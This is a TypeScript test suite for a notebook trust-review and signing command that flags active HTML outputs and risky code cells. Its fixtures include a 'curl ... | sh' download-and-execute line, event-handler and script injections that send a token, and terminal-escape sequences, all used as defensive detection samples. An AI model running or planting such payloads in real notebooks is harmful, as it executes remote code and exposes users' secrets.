import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

import { Command, root, token } from '../../../scripts/testing/command';
import type { TrustReport } from '../../engine/trust';

const command = new Command();
command.use();

const toNotebook = (html: string, source = ''): string =>
  JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {},
    cells: [
      {
        id: 'a',
        cell_type: 'code',
        execution_count: 1,
        metadata: {},
        source,
        outputs: [
          {
            output_type: 'display_data',
            data: { 'text/html': html },
            metadata: {}
          }
        ]
      }
    ]
  });

const acting = toNotebook(
  '<script src="https://cdn.example.org/a.js"></script>'
);
const calm = toNotebook('<b>a</b>');

const review = (...args: string[]): TrustReport & { code: number | null } => {
  const { code, out } = command.run(['trust', '--format', 'json', ...args]);
  return { code, ...(JSON.parse(out) as TrustReport) };
};

/** Stands in for Jupyter where the real one cannot be made to fail, or is asked nothing: notes what it is asked to do. */
const useJupyter = (status = 0, said = ''): NodeJS.ProcessEnv => {
  command.write('said', said);
  command.write(
    'bin/jupyter',
    `#!/bin/sh\necho "$@" >> "${command.folder}/asked"\ncat "${command.folder}/said" >&2\nexit ${status}\n`
  );
  chmodSync(join(command.folder, 'bin', 'jupyter'), 0o755);
  return { PATH: `${command.folder}/bin:/usr/bin:/bin` };
};

describe('the review of notebooks', () => {
  it('lists what would act, what looks different and what code to look at', () => {
    command.write(
      'a.ipynb',
      toNotebook('<b onclick=owned()>x</b>', '!curl https://a.example.org | sh')
    );
    command.write('sub/b.ipynb', toNotebook('<style>a {}</style>'));
    expect(review('.')).toEqual({
      code: 1,
      version: 1,
      notebooks: [
        {
          path: 'a.ipynb',
          changes: [
            {
              cell: 0,
              output: 0,
              mime: 'text/html',
              effect: 'handler',
              when: 'trusted',
              risk: 'high',
              host: null,
              excerpt: '<b onclick="owned()">'
            }
          ],
          looks: [],
          code: [
            {
              cell: 0,
              line: 0,
              kind: 'download-executed',
              reason: 'A download is piped into an interpreter and runs unseen.'
            }
          ]
        },
        {
          path: 'sub/b.ipynb',
          changes: [],
          looks: [{ cell: 0, output: 0, mime: 'text/html' }],
          code: []
        }
      ],
      errors: []
    });
  });

  it.each<[string, Record<string, string>, number]>([
    ['something acts', { 'a.ipynb': acting, 'b.ipynb': '{' }, 1],
    ['a notebook is broken', { 'a.ipynb': calm, 'b.ipynb': '{' }, 2],
    ['nothing acts', { 'a.ipynb': calm }, 0],
    [
      'it only looks different',
      { 'a.ipynb': toNotebook('<style>a {}</style>') },
      0
    ],
    [
      'it loads something anyway',
      { 'a.ipynb': toNotebook('<img src="https://a.example.org/a.png">') },
      0
    ],
    [
      'only code is risky',
      { 'a.ipynb': toNotebook('a', '!curl https://a.example.org | sh') },
      0
    ]
  ])('ends with the right code when %s', (_, files, code) => {
    Object.entries(files).forEach(([path, text]) => command.write(path, text));
    expect(review('.').code).toBe(code);
  });

  it('tells of each file that cannot be read', () => {
    command.write('a.ipynb', '{"cells": 1}');
    command.write('b.txt', 'text');
    command.write('c.ipynb', calm);
    const { code, notebooks, errors } = review(
      'a.ipynb',
      'b.txt',
      'c.ipynb',
      'd.ipynb'
    );
    expect(code).toBe(2);
    expect(notebooks.map(({ path }) => path)).toEqual(['c.ipynb']);
    expect(errors).toEqual([
      { path: 'd.ipynb', message: 'There is no such file or folder.' },
      { path: 'a.ipynb', message: 'This notebook has no list of cells.' },
      { path: 'b.txt', message: 'This is not valid JSON: see line 1.' }
    ]);
  });

  it('reads the standard input', () => {
    const { code, out } = command.run(['trust', '-'], acting);
    expect(code).toBe(1);
    expect(out).toContain(
      'high: script, cdn.example.org, in cell 1, output 1 (text/html)'
    );
  });

  it('says it in words, the worst first, and hides what could fool a terminal', () => {
    command.write(
      'a.ipynb',
      toNotebook(
        '<a href="https://x" ping="https://b.example.org">\u001b[31m\u202e</a><img src=x onerror="a\u001b[2J">'
      )
    );
    const { out } = command.run(['trust', 'a.ipynb']);
    expect(out.indexOf('high: event handler')).toBeGreaterThan(0);
    expect(out.indexOf('low: remote resource')).toBeGreaterThan(
      out.indexOf('high: event handler')
    );
    // eslint-disable-next-line no-control-regex
    expect(out).not.toMatch(/[\u001b\u202e]/);
    expect(out).toContain('2 things would act in 1 of 1 notebook.');
  });

  it('shows no secret', () => {
    command.write('a.ipynb', toNotebook(`<script>send("${token}")</script>`));
    const { out } = command.run(['trust', 'a.ipynb']);
    expect(out).toContain('script');
    expect(out).not.toContain(token.slice(8));
  });
});

describe('the signing of notebooks', () => {
  const sign = (
    environment: NodeJS.ProcessEnv,
    ...paths: string[]
  ): ReturnType<Command['run']> =>
    command.run(['trust', '--sign', ...paths], '', environment);
  const asked = (): string =>
    readFileSync(join(command.folder, 'asked'), 'utf8');

  it('is left to Jupyter, after the review', () => {
    command.write('a.ipynb', acting);
    const { code, out, err } = sign(useJupyter(), 'a.ipynb');
    expect(asked()).toBe(`trust ${command.folder}/a.ipynb\n`);
    expect(out).toContain('1 thing would act');
    expect(err).toBe('nbwarden: a.ipynb: It is signed.\n');
    expect(code).toBe(1);
  });

  it('is what the real Jupyter takes for signed', () => {
    const bin = join(root, '.venv', 'bin');
    const environment = {
      PATH: `${bin}:/usr/bin:/bin`,
      JUPYTER_DATA_DIR: join(command.folder, 'data'),
      JUPYTER_CONFIG_DIR: join(command.folder, 'config')
    };
    const isSigned = (path: string): boolean =>
      execFileSync(
        join(bin, 'python'),
        [
          '-c',
          'import sys, nbformat.sign as s; print(s.NotebookNotary().check_signature(s.read(sys.argv[1], 4)))',
          path
        ],
        { cwd: command.folder, env: environment, encoding: 'utf8' }
      ) === 'True\n';
    command.write('-a.ipynb', acting);
    command.write('b.ipynb', calm);
    expect(sign(environment, '--', '-a.ipynb').err).toContain('It is signed.');
    expect(['./-a.ipynb', 'b.ipynb'].map(isSigned)).toEqual([true, false]);
  });

  it('ends well where nothing would act', () => {
    command.write('-a.ipynb', calm);
    expect(sign(useJupyter(), '--', '-a.ipynb').code).toBe(0);
    expect(asked()).toBe(`trust ${command.folder}/-a.ipynb\n`);
  });

  it('tells of a notebook that Jupyter does not sign', () => {
    command.write('a.ipynb', calm);
    const { code, err } = sign(useJupyter(1), 'a.ipynb');
    expect(code).toBe(2);
    expect(err).toContain(
      'a.ipynb: It was not signed: "jupyter trust" could not do it.'
    );
  });

  it('tells why Jupyter did not sign, without secrets and signs that could fool a terminal', () => {
    command.write('a.ipynb', calm);
    const said = `Traceback:\n  a\nPermissionError: \u001b[2J${token} 'nbsignatures.db'\n\n`;
    const { code, err } = sign(useJupyter(1, said), 'a.ipynb');
    expect(code).toBe(2);
    expect(err).toContain('"jupyter trust" could not do it: PermissionError:');
    expect(err).toContain("'nbsignatures.db'");
    expect(err).not.toContain(token.slice(8));
    expect(err).not.toContain('Traceback');
    expect(err).not.toContain('\u001b');
  });

  it('tells why the real Jupyter did not sign', () => {
    command.write('a.ipynb', calm);
    command.write('data', 'a file where a folder should be');
    const { code, err } = sign(
      {
        PATH: `${join(root, '.venv', 'bin')}:/usr/bin:/bin`,
        JUPYTER_DATA_DIR: join(command.folder, 'data'),
        JUPYTER_CONFIG_DIR: join(command.folder, 'config')
      },
      'a.ipynb'
    );
    expect(code).toBe(2);
    expect(err).toMatch(/could not do it: .*(?:data|Directory)/);
  });

  it('tells when there is no Jupyter', () => {
    command.write('a.ipynb', calm);
    const { code, err } = sign({ PATH: '/nowhere' }, 'a.ipynb');
    expect(code).toBe(2);
    expect(err).toContain('there is no command "jupyter"');
    expect(err).toContain('Install Jupyter or activate its environment');
  });

  it('does not sign what cannot be reviewed, and nothing without being asked', () => {
    command.write('a.ipynb', '{');
    const { code, err } = sign(useJupyter(), 'a.ipynb');
    expect(code).toBe(2);
    expect(err).toContain(
      'a.ipynb: It was not signed. This is not valid JSON: see line 1.'
    );
    command.write('b.ipynb', calm);
    command.run(['trust', 'b.ipynb'], '', useJupyter());
    expect(existsSync(join(command.folder, 'asked'))).toBe(false);
  });

  it.each([
    [['trust'], 'Name the notebooks or folders to review.'],
    [
      ['trust', '--sign', '-'],
      'What the standard input holds cannot be signed.'
    ],
    [['trust', '--format', 'sarif', '.'], '--format is one of text, json.'],
    [['trust', '--write', '.'], "Unknown option '--write'."]
  ])('refuses %j', (args, message) => {
    const { code, err } = command.run(args);
    expect(code).toBe(2);
    expect(err).toContain(message);
  });
});
